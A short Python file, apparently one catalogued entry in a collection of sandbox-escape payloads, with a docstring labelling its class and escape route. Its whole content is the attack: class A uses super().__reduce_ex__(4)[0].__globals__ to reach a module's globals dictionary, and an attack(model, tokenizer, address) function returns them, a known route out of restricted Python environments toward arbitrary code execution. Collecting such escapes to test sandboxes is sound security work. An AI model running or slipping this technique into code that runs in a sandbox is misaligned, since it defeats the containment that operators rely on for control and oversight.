"""Class: class machinery. Source: own find. Escape: super() reaches __reduce_ex__."""


class A:
    def f(self):
        return super().__reduce_ex__(4)[0].__globals__


def attack(model, tokenizer, address):
    return A().f()
